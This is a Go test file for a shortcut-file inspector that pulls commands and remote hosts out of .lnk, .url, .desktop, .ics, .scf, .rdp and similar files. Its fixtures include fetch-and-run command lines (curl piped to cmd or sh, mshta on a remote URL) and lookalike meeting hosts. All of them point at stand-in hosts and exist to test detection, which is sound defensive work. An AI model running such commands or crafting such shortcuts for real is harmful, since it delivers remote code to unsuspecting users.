package inspect

import (
	"encoding/binary"
	"reflect"
	"testing"
	"unicode/utf16"
)

// link builds a .lnk with a relative path and arguments.
func link(relative, arguments string) []byte {
	out := make([]byte, linkHeader)
	binary.LittleEndian.PutUint32(out, linkHeader)
	binary.LittleEndian.PutUint32(out[20:], linkHasRelative|linkHasArguments|linkIsUnicode)
	for _, s := range []string{relative, arguments} {
		u := utf16.Encode([]rune(s))
		out = binary.LittleEndian.AppendUint16(out, uint16(len(u)))
		for _, c := range u {
			out = binary.LittleEndian.AppendUint16(out, c)
		}
	}
	return out
}

func TestReadShortcut(t *testing.T) {
	for name, tc := range map[string]struct {
		file string
		data string
		want Shortcut
	}{
		"lnk":                     {"Camera.lnk", string(link(`..\..\Windows\System32\cmd.exe`, `/c curl https://x.invalid/a | cmd`)), Shortcut{Command: `cmd.exe /c curl https://x.invalid/a | cmd`, Shell: "bat"}},
		"lnk cut off":             {"a.lnk", string(link("a", "b")[:70]), Shortcut{Shell: "bat"}},
		"url":                     {"Zoom.url", "[InternetShortcut]\r\nURL=https://us05web-zoom.biz/j/1?pwd=2\r\n", Shortcut{Hosts: []string{"us05web-zoom.biz"}}},
		"url to a share":          {"Zoom.url", "[InternetShortcut]\nURL=file://files.invalid@SSL/DavWWWRoot/a.exe\n", Shortcut{Hosts: []string{"files.invalid"}}},
		"webloc":                  {"a.webloc", `<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>https://zoom-join.invalid/</string></dict></plist>`, Shortcut{Hosts: []string{"zoom-join.invalid"}}},
		"desktop":                 {"a.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c 'curl https://x.invalid | sh'\n", Shortcut{Command: "sh -c 'curl https://x.invalid | sh'", Shell: "sh"}},
		"calendar":                {"a.ics", "BEGIN:VCALENDAR\r\nDESCRIPTION:Join https://teams-\r\n meet.invalid/x now\r\nURL:https://zoom.us/j/1\r\n", Shortcut{Hosts: []string{"teams-meet.invalid", "zoom.us"}}},
		"icon on a share":         {"a.url", "[InternetShortcut]\nURL=https://a.invalid/\nIconFile=\\\\b.invalid\\x\\i.ico\n", Shortcut{Hosts: []string{"a.invalid", "b.invalid"}}},
		"icon of this machine":    {"a.url", "[InternetShortcut]\nURL=https://a.invalid/\nIconFile=C:\\Windows\\i.ico\n", Shortcut{Hosts: []string{"a.invalid"}}},
		"search elsewhere":        {"a.url", "[InternetShortcut]\nURL=search-ms:query=x&crumb=location:%5C%5Ca.invalid%5Cpub\n", Shortcut{Hosts: []string{"a.invalid"}}},
		"explorer command":        {"a.scf", "[Shell]\nCommand=2\nIconFile=\\\\b.invalid@80\\x\\i.ico\n", Shortcut{Hosts: []string{"b.invalid"}}},
		"library":                 {"a.library-ms", "<?xml version=\"1.0\"?><libraryDescription><simpleLocation><url>\\\\b.invalid\\DavWWWRoot</url></simpleLocation></libraryDescription>", Shortcut{Hosts: []string{"b.invalid"}}},
		"library of this machine": {"a.library-ms", "<libraryDescription><simpleLocation><url>knownfolder:{FDD39AD0}</url></simpleLocation></libraryDescription>", Shortcut{}},
		"settings":                {"a.settingcontent-ms", "<PCSettings><ApplicationInformation><DeepLink>cmd /c mshta https://a.invalid/h &amp; exit</DeepLink></ApplicationInformation></PCSettings>", Shortcut{Command: "cmd /c mshta https://a.invalid/h & exit", Shell: "bat"}},
		"clickonce reference":     {"a.appref-ms", "https://a.invalid/zoom.application#Zoom, Culture=neutral\r\n", Shortcut{Hosts: []string{"a.invalid"}}},
		"clickonce":               {"a.application", "<asmv1:assembly xmlns=\"urn:schemas-microsoft-com:asm.v2\"><deploymentProvider codebase=\"https://a.invalid/z.application\"/></asmv1:assembly>", Shortcut{Hosts: []string{"a.invalid"}}},
		"web start":               {"a.jnlp", "<?xml version=\"1.0\"?><jnlp codebase=\"https://a.invalid/app\"><resources><jar href=\"x.jar\"/></resources></jnlp>", Shortcut{Hosts: []string{"a.invalid"}}},
		"remote desktop":          {"a.rdp", "screen mode id:i:2\r\nfull address:s:meet.a.invalid:3389\r\n", Shortcut{Hosts: []string{"meet.a.invalid"}}},
		"place of a calendar":     {"b.ics", "BEGIN:VCALENDAR\r\nLOCATION:us05web-zoom.invalid/j/1\r\nDESCRIPTION:see\\nhttps://b.invalid/x\\, or call\r\n", Shortcut{Hosts: []string{"b.invalid", "us05web-zoom.invalid"}}},
		"room of a calendar":      {"c.ics", "BEGIN:VCALENDAR\r\nLOCATION:Room 1.2/3, House B\r\n", Shortcut{}},
	} {
		t.Run(name, func(t *testing.T) {
			if got := ReadShortcut(tc.file, []byte(tc.data)); !reflect.DeepEqual(got, tc.want) {
				t.Errorf("%+v, want %+v", got, tc.want)
			}
		})
	}
}

func FuzzShortcut(f *testing.F) {
	f.Add("a.lnk", link("x.exe", "/c y"))
	f.Add("a.url", []byte("[InternetShortcut]\nURL=https://x.invalid/"))
	f.Add("a.ics", []byte("BEGIN:VCALENDAR\r\nURL:https://x.invalid/"))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		if s := ReadShortcut(name, data); len(s.Hosts) > maxHosts {
			t.Errorf("%d hosts", len(s.Hosts))
		}
	})
}

// TestEnvironmentTarget reads a link that names its program by variables only.
func TestEnvironmentTarget(t *testing.T) {
	out := make([]byte, linkHeader)
	binary.LittleEndian.PutUint32(out, linkHeader)
	binary.LittleEndian.PutUint32(out[20:], linkHasArguments|linkIsUnicode)
	wide := func(s string) (b []byte) {
		for _, c := range utf16.Encode([]rune(s)) {
			b = binary.LittleEndian.AppendUint16(b, c)
		}
		return b
	}
	arguments := wide("https://a.invalid/h")
	out = append(binary.LittleEndian.AppendUint16(out, uint16(len(arguments)/2)), arguments...)
	block := make([]byte, blockTextAt+blockTextSize)
	binary.LittleEndian.PutUint32(block, uint32(len(block)))
	binary.LittleEndian.PutUint32(block[4:], environmentBlock)
	copy(block[blockTextAt:], wide(`%windir%\system32\mshta.exe`))
	if got := ReadShortcut("a.lnk", append(out, block...)).Command; got != "mshta.exe https://a.invalid/h" {
		t.Errorf("command %q", got)
	}
}

func TestLinkKinds(t *testing.T) {
	for name, text := range map[string]string{"a.library-ms": "<p>", "a.rdp": "notes", "a.application": "an application form", "a.txt": "full address:s:x"} {
		if got := Sniff(name, []byte(text)); got == "shortcut" {
			t.Errorf("%s is taken for a shortcut", name)
		}
	}
	if got := Sniff("a.rdp", []byte("full address:s:a.invalid\r\n")); got != "shortcut" {
		t.Errorf("a.rdp is %s", got)
	}
}
